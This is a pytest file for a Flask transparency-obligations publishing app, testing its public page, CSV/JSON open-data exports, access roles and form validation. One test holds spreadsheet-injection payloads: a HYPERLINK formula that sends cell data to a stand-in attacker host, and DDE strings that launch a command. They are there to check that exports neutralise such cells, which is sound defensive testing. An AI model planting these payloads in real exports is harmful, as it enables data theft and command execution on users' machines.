"""Publication pages: the public page and its open data (CSV and JSON parse, stable columns, no personal
data), the area's record form with bad input kept, the unit's return with observations, and wrong roles."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import uuid
from datetime import date

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from app.extensions import db
from app.models import AuditEntry, Case, Role
from app.procedures.obligation_publication.models import ObligationPublication
from app.procedures.obligation_publication.services import (
    OPEN_DATA_COLUMNS,
    decide,
    open_quarter,
    save_record,
    submit_record,
)
from app.services.demo import demo_pdf
from app.services.users import ensure_department
from tests.support.factories import make_user
from tests.web.helpers import csrf_token, field_errors, flashes, login_as, text

ROW = {"capitulo": "1000 Servicios personales", "aprobado": "1500000.00", "ejercido": "350000", "hipervinculo": ""}


def budget() -> Case:
    db.session.rollback()
    return db.session.scalars(
        select(Case)
        .join(ObligationPublication, ObligationPublication.case_id == Case.id)
        .where(ObligationPublication.format_code == "presupuesto")
    ).one()


def budget_of(year: int) -> Case:
    """The budget format's publication case of ``year`` (the first quarter opened that year)."""
    return db.session.scalars(
        select(Case)
        .join(ObligationPublication, ObligationPublication.case_id == Case.id)
        .where(ObligationPublication.format_code == "presupuesto", ObligationPublication.year == year)
    ).one()


@pytest.fixture
def people(app: Flask) -> dict[str, int]:
    for code in ("finanzas", "obras_publicas", "desarrollo_urbano"):
        ensure_department(code, code.replace("_", " ").title())
    open_quarter(2026, 1, today=date(2026, 4, 1))
    return {
        "area": make_user((Role.AREA, "finanzas"), name="Fernanda Finanzas"),
        "other_area": make_user((Role.AREA, "obras_publicas")),
        "unit": make_user(Role.TRANSPARENCY_UNIT, name="Ulises Unidad"),
        "guarantor": make_user(Role.GUARANTOR),
        "applicant": make_user(Role.APPLICANT),
    }


def publish(
    people: dict[str, int], rows: list[dict[str, str]] | None = None, note: str = "", case: Case | None = None
) -> Case:
    case = case or budget()
    result = save_record(case.id, people["area"], rows=rows or [ROW], note=note, expected_version=case.version)
    result = submit_record(case.id, people["area"], expected_version=result.version)
    result = decide(
        case.id,
        "validate",
        people["unit"],
        expected_version=result.version,
        idempotency_key=uuid.uuid4().hex,
        comment=None,
    )
    decide(
        case.id,
        "publish",
        people["unit"],
        expected_version=result.version,
        idempotency_key=uuid.uuid4().hex,
        comment=None,
    )
    db.session.rollback()
    published = db.session.get(Case, case.id)
    assert published is not None
    return published


def test_public_page_and_open_data(client: FlaskClient, people: dict[str, int]) -> None:
    empty = client.get("/transparencia/obligaciones")
    assert empty.status_code == 200
    assert "Aún no hay registros publicados" in text(empty)
    case = publish(people)
    page = client.get("/transparencia/obligaciones?ejercicio=2026&trimestre=1")
    body = text(page)
    assert page.status_code == 200
    assert "Presupuesto asignado y su ejercicio" in body
    assert "1000 Servicios personales" in body
    assert "Fecha de validación:" in body
    assert case.folio in body
    for name in ("Fernanda", "Ulises", "Sistema de publicaciones", "@"):
        assert name not in body
    other_period = client.get("/transparencia/obligaciones?ejercicio=2025")
    assert "1000 Servicios personales" not in text(other_period)

    csv_response = client.get("/transparencia/obligaciones/presupuesto.csv")
    assert csv_response.status_code == 200
    assert csv_response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(csv_response.get_data().decode("utf-8"))))
    assert rows[0] == [*OPEN_DATA_COLUMNS, "capitulo", "aprobado", "ejercido", "hipervinculo"]
    assert len(rows) == 2
    line = dict(zip(rows[0], rows[1], strict=True))
    assert line["folio_registro"] == case.folio
    assert line["ejercicio"] == "2026"
    assert line["trimestre"] == "1"
    assert line["capitulo"] == "1000 Servicios personales"
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", line["fecha_validacion"])
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", line["fecha_publicacion"])

    json_response = client.get("/transparencia/obligaciones/presupuesto.json")
    assert json_response.status_code == 200
    assert json_response.mimetype == "application/json"
    document = json.loads(json_response.get_data().decode("utf-8"))
    assert document["formato"]["codigo"] == "presupuesto"
    assert [c["nombre"] for c in document["campos"]] == ["capitulo", "aprobado", "ejercido", "hipervinculo"]
    assert document["registros"][0]["renglones"] == [
        {"capitulo": "1000 Servicios personales", "aprobado": 1500000, "ejercido": 350000, "hipervinculo": ""}
    ]
    raw = csv_response.get_data(as_text=True) + json_response.get_data(as_text=True)
    for name in ("Fernanda", "Ulises", "Sistema de publicaciones", "@"):
        assert name not in raw
    # a format with nothing published still gives a valid, empty document
    empty_json = json.loads(client.get("/transparencia/obligaciones/contratos.json").get_data(as_text=True))
    assert empty_json["registros"] == []


FORMULAS = [
    '=HYPERLINK("https://atacante.example/?d="&A1;"Ver detalle")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUMA(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_open_data_neutralises_formulas_and_keeps_numbers(client: FlaskClient, people: dict[str, int]) -> None:
    rows = [
        {"capitulo": formula, "aprobado": "-1500.50", "ejercido": "350000", "hipervinculo": ""} for formula in FORMULAS
    ]
    publish(people, rows=rows, note="=1+1 nota")
    plain = client.get("/transparencia/obligaciones/presupuesto.csv")
    assert plain.status_code == 200
    body = plain.get_data()
    assert not body.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    header = table[0]
    assert len(header) == len(set(header))
    lines = [dict(zip(header, row, strict=True)) for row in table[1:]]
    assert [line["capitulo"] for line in lines] == ["'" + formula.strip() for formula in FORMULAS]  # saved trimmed
    assert {line["nota"] for line in lines} == {"'=1+1 nota"}
    assert {line["aprobado"] for line in lines} == {"-1500.50"}  # a number, not neutralised text
    for row in table[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell

    with_bom = client.get("/transparencia/obligaciones/presupuesto.csv?bom=1")
    assert with_bom.get_data().startswith(b"\xef\xbb\xbf")
    assert with_bom.get_data()[3:] == body
    assert client.get("/transparencia/obligaciones/presupuesto.csv?bom=0").get_data() == body
    assert client.get("/transparencia/obligaciones/presupuesto.csv?bom=quizas").status_code == 400

    document = client.get("/transparencia/obligaciones/presupuesto.json").get_json()
    first = document["registros"][0]["renglones"][0]
    assert first["aprobado"] == -1500.5
    assert first["ejercido"] == 350000
    assert isinstance(first["ejercido"], int)
    assert first["capitulo"] == FORMULAS[0]  # JSON is data, not a spreadsheet: kept as typed


def test_public_bad_input(client: FlaskClient, people: dict[str, int]) -> None:
    assert client.get("/transparencia/obligaciones/no_existe.csv").status_code == 404
    assert client.get("/transparencia/obligaciones/no_existe.json").status_code == 404
    bad = client.get("/transparencia/obligaciones?ejercicio=dos-mil&trimestre=9")
    assert bad.status_code == 400
    assert any("ejercicio" in m for m in flashes(bad))
    unknown = client.get("/transparencia/obligaciones?formato=no_existe")
    assert unknown.status_code == 404
    assert "El formato «no_existe» no existe." in flashes(unknown)


def test_staff_pages_refuse_wrong_roles(client: FlaskClient, people: dict[str, int]) -> None:
    case = budget()
    assert client.get(f"/transparencia/publicaciones/{case.id}").status_code in (302, 401)
    login_as(client, people["applicant"])
    assert client.get("/transparencia/publicaciones").status_code == 403
    assert client.get(f"/transparencia/publicaciones/{case.id}").status_code == 403
    assert client.get("/transparencia/publicaciones/muestreo").status_code == 403


def test_other_area_cannot_open_the_record(client: FlaskClient, people: dict[str, int]) -> None:
    login_as(client, people["other_area"])
    assert client.get(f"/transparencia/publicaciones/{budget().id}").status_code == 403
    assert client.get("/transparencia/publicaciones/999999").status_code == 404


def test_record_form_keeps_bad_input_and_explains(client: FlaskClient, people: dict[str, int]) -> None:
    case = budget()
    login_as(client, people["area"])
    page = client.get(f"/transparencia/publicaciones/{case.id}")
    assert page.status_code == 200
    action = f"/transparencia/publicaciones/{case.id}/registro"
    token = csrf_token(text(page), action)
    form = {
        "csrf_token": token,
        "expected_version": str(case.version),
        "idempotency_key": uuid.uuid4().hex,
        "row-1-capitulo": "2000 Materiales",
        "row-1-aprobado": "doscientos",
        "row-1-ejercido": "100",
        "row-1-hipervinculo": "",
        "note": "",
        "send": "Guardar y enviar",
    }
    bad = client.post(action, data=form)
    assert bad.status_code == 422
    assert "Renglón 1: «Presupuesto aprobado» debe ser un número." in flashes(bad)
    assert 'value="doscientos"' in text(bad)  # nothing typed is lost
    assert budget().version == case.version
    good = client.post(action, data={**form, "row-1-aprobado": "200000"})
    assert good.status_code == 302
    assert budget().state == "submitted"
    assert budget().data["rows"][0]["aprobado"] == "200000"
    stale = client.post(action, data={**form, "row-1-aprobado": "200000"})  # the old version: reload
    assert stale.status_code in (409, 422)


def test_unit_returns_with_observations_and_blank_ones_are_refused(client: FlaskClient, people: dict[str, int]) -> None:
    case = budget()
    result = save_record(case.id, people["area"], rows=[ROW], note="", expected_version=case.version)
    submit_record(case.id, people["area"], expected_version=result.version)
    login_as(client, people["unit"])
    page = client.get(f"/transparencia/publicaciones/{case.id}")
    action = f"/transparencia/publicaciones/{case.id}/acciones/return_record"
    base = {
        "csrf_token": csrf_token(text(page), action),
        "expected_version": str(budget().version),
        "idempotency_key": uuid.uuid4().hex,
    }
    blank = client.post(action, data={**base, "comment": "  "})
    assert blank.status_code == 422
    assert "Esta acción requiere un comentario fundado y motivado." in flashes(blank)
    assert budget().state == "submitted"
    # observations too long: said under the field, kept, not "the form is incomplete, reload"
    long_text = "Falta el capítulo 3000. " * 200
    too_long = client.post(action, data={**base, "comment": long_text})
    assert too_long.status_code == 422
    assert flashes(too_long) == ["Revise los datos marcados."]
    assert field_errors(too_long) == ["Máximo 4000 caracteres."]
    assert 'aria-describedby="comment-return_record-error"' in text(too_long)
    assert long_text.strip() in html.unescape(text(too_long))
    assert budget().state == "submitted"
    done = client.post(action, data={**base, "idempotency_key": uuid.uuid4().hex, "comment": "Falta el capítulo 3000."})
    assert done.status_code == 302
    assert budget().state == "returned"
    again = client.get(f"/transparencia/publicaciones/{case.id}")
    assert "Falta el capítulo 3000." in text(again)
    unknown = client.post(f"/transparencia/publicaciones/{case.id}/acciones/sample", data=base)
    assert unknown.status_code == 404


def test_attachment_upload_and_public_download(client: FlaskClient, people: dict[str, int]) -> None:
    case = budget()
    login_as(client, people["area"])
    page = client.get(f"/transparencia/publicaciones/{case.id}")
    action = f"/transparencia/publicaciones/{case.id}/anexos"
    base = {
        "csrf_token": csrf_token(text(page), action),
        "expected_version": str(case.version),
        "idempotency_key": uuid.uuid4().hex,
    }
    bad = client.post(
        action, data={**base, "document": (io.BytesIO(b"hola"), "informe.pdf")}, content_type="multipart/form-data"
    )
    assert bad.status_code == 422
    assert flashes(bad)
    good = client.post(
        action,
        data={**base, "document": (io.BytesIO(demo_pdf("Informe")), "informe.pdf")},
        content_type="multipart/form-data",
    )
    assert good.status_code == 302
    sha = budget().data["attachments"][0]["sha256"]
    staff_copy = client.get(f"/transparencia/publicaciones/{case.id}/anexos/{sha}")
    assert staff_copy.status_code == 200
    assert staff_copy.get_data() == demo_pdf("Informe")
    assert client.get(f"/transparencia/obligaciones/anexos/{case.id}/{sha}").status_code == 404  # not published
    publish(people)
    public = client.get(f"/transparencia/obligaciones/anexos/{case.id}/{sha}")
    assert public.status_code == 200
    assert public.mimetype == "application/pdf"
    assert "informe.pdf" in text(client.get("/transparencia/obligaciones"))


def test_admin_edits_formats_and_calendar_audited(client: FlaskClient, people: dict[str, int]) -> None:
    admin = make_user(Role.ADMIN)
    login_as(client, admin)
    index = client.get("/admin/tramites")
    assert "/admin/tramites/obligation_publication" in text(index)
    page = client.get("/admin/tramites/obligation_publication")
    assert page.status_code == 200
    body = text(page)
    assert "Calendario de publicación" in body
    assert "LGTAIP art. 70, fracción XXI" in body
    action = "/admin/tramites/obligation_publication"
    form = {
        "csrf_token": csrf_token(body, ""),
        "formats": json.dumps(
            [
                {
                    "code": "subsidios",
                    "title": "Subsidios otorgados",
                    "legal_basis": "LGTAIP art. 70, fracción XV",
                    "department": "finanzas",
                    "fields": [{"name": "programa", "label": "Programa", "type": "text", "required": True}],
                }
            ]
        ),
        "calendar": json.dumps(
            {
                "1": {"opens": "04-01", "due": "04-15"},
                "2": {"opens": "07-01", "due": "07-30"},
                "3": {"opens": "10-01", "due": "10-30"},
                "4": {"opens": "01-02", "due": "01-30"},
            }
        ),
        "drafting_target_days": "20",
        "findings_correction_days": "15",
        "sample_rate": "25",
        "department__area": "",
    }
    bad_json = client.post(action, data={**form, "calendar": "{no es json"})
    assert bad_json.status_code == 422
    assert any("No es JSON válido" in e for e in field_errors(bad_json))
    bad_calendar = client.post(action, data={**form, "calendar": json.dumps({"1": {"opens": "05-01", "due": "04-30"}})})
    assert bad_calendar.status_code == 422
    assert "Valor no válido para «calendar»." in flashes(bad_calendar)
    saved = client.post(action, data=form)
    assert saved.status_code == 302, flashes(saved)
    report = open_quarter(2026, 2, today=date(2026, 7, 1))
    assert len(report.opened) == 1
    assert open_quarter(2027, 1, today=date(2027, 4, 1)).due_on == date(2027, 4, 15)
    db.session.rollback()
    entry = db.session.scalars(
        select(AuditEntry).where(AuditEntry.action == "workflow_config_changed").order_by(AuditEntry.seq.desc())
    ).first()
    assert entry is not None
    assert entry.details["workflow"] == "obligation_publication"
    assert 'name="sample_seed"' not in body  # the draw's seed is no setting of the audited body


def test_the_generic_case_page_of_a_publication_works_for_its_staff(
    client: FlaskClient, people: dict[str, int]
) -> None:
    case = budget()
    login_as(client, people["area"])
    page = client.get(f"/expedientes/{case.id}")
    assert page.status_code == 200
    assert case.folio in text(page)
    assert "En elaboración por el área responsable" in text(page)


def test_the_lists_show_one_year_the_latest_unless_asked(client: FlaskClient, people: dict[str, int]) -> None:
    """The public page and the staff list show one year of publications (the latest opened, unless the filter
    names another): they do not grow with the years kept. The open data keep every year."""
    open_quarter(2025, 4, today=date(2026, 1, 5))
    db.session.rollback()
    older = budget_of(2025)
    publish(people, [{**ROW, "capitulo": "Capítulo de 2025"}], case=older)

    public = client.get("/transparencia/obligaciones")
    assert public.status_code == 200
    assert "Capítulo de 2025" not in text(public)
    assert 'value="2026"' in public.get_data(as_text=True)  # the filter says which year is shown
    assert "Capítulo de 2025" in text(client.get("/transparencia/obligaciones?ejercicio=2025"))
    wrong = client.get("/transparencia/obligaciones?ejercicio=1999")
    assert wrong.status_code == 400
    assert "Capítulo de 2025" not in text(wrong)  # the latest year, with the error said
    csv_rows = list(csv.reader(io.StringIO(client.get("/transparencia/obligaciones/presupuesto.csv").get_data(True))))
    folios = [dict(zip(csv_rows[0], r, strict=True))["folio_registro"] for r in csv_rows[1:]]
    assert folios == [older.folio]  # 2026's record is not published yet; 2025's is there

    login_as(client, people["unit"])
    staff = text(client.get("/transparencia/publicaciones"))
    assert "2026-T1" in staff
    assert "<td>Obras Publicas</td>" in staff  # each format's area by its name, not its code
    assert "<td>obras_publicas</td>" not in staff
    assert "2025-T4" not in staff
    assert "Ejercicio anterior" in staff
    previous = client.get("/transparencia/publicaciones?ejercicio=2025")
    assert previous.status_code == 200
    assert older.folio in text(previous)
    assert "2026-T1" not in text(previous)
    assert client.get("/transparencia/publicaciones?ejercicio=abc").status_code == 400
    assert "No hay publicaciones de este periodo" in text(client.get("/transparencia/publicaciones?ejercicio=2024"))


def test_open_data_of_one_period(client: FlaskClient, people: dict[str, int]) -> None:
    """A format's open data hold every year unless a period is asked for (``ejercicio``, with or without its
    ``trimestre``), as SIPOT's queries do; a period that is not one is a 400 that says why; a client holding the
    same bytes is answered 304."""
    open_quarter(2025, 4, today=date(2026, 1, 5))
    db.session.rollback()
    older = budget_of(2025)
    current = budget_of(2026)
    publish(people, [{**ROW, "capitulo": "Capítulo de 2025"}], case=older)
    current = publish(people, case=current)

    def folios(query: str) -> list[str]:
        response = client.get(f"/transparencia/obligaciones/presupuesto.csv{query}")
        assert response.status_code == 200, query
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
        return [dict(zip(rows[0], row, strict=True))["folio_registro"] for row in rows[1:]]

    assert folios("") == [current.folio, older.folio]  # newest period first
    assert folios("?ejercicio=2025") == [older.folio]
    assert folios("?ejercicio=2026&trimestre=1") == [current.folio]
    assert folios("?ejercicio=2026&trimestre=2") == []
    assert folios("?ejercicio=2024") == []
    named = client.get("/transparencia/obligaciones/presupuesto.csv?ejercicio=2026&trimestre=1")
    assert named.headers["Content-Disposition"] == 'attachment; filename="obligaciones-presupuesto-2026-T1.csv"'

    document = client.get("/transparencia/obligaciones/presupuesto.json?ejercicio=2025").get_json()
    assert document["periodo"] == {"ejercicio": 2025, "trimestre": None}
    assert [r["folio"] for r in document["registros"]] == [older.folio]
    whole = client.get("/transparencia/obligaciones/presupuesto.json").get_json()
    assert whole["periodo"] == {"ejercicio": None, "trimestre": None}
    assert [r["folio"] for r in whole["registros"]] == [current.folio, older.folio]

    for query in ("?ejercicio=1999", "?ejercicio=dos+mil", "?ejercicio=2026&trimestre=5", "?trimestre=1"):
        for extension in ("csv", "json"):
            refused = client.get(f"/transparencia/obligaciones/presupuesto.{extension}{query}")
            assert refused.status_code == 400, (extension, query)
            assert "el trimestre, de 1 a 4, va con su ejercicio" in text(refused)
    english = client.get(
        "/transparencia/obligaciones/presupuesto.csv?ejercicio=1999", headers={"Accept-Language": "en"}
    )
    assert english.status_code == 400
    assert "goes with its year" in text(english)

    first = client.get("/transparencia/obligaciones/presupuesto.csv")
    etag = first.headers["ETag"]
    again = client.get("/transparencia/obligaciones/presupuesto.csv", headers={"If-None-Match": etag})
    assert again.status_code == 304
    assert again.get_data() == b""
    other = client.get("/transparencia/obligaciones/presupuesto.csv?ejercicio=2025", headers={"If-None-Match": etag})
    assert other.status_code == 200  # another period is other bytes

    page = client.get("/transparencia/obligaciones").get_data(as_text=True)
    assert "/transparencia/obligaciones/presupuesto.csv?ejercicio=2026" in page
    assert "/transparencia/obligaciones/presupuesto.json?ejercicio=2026" in page
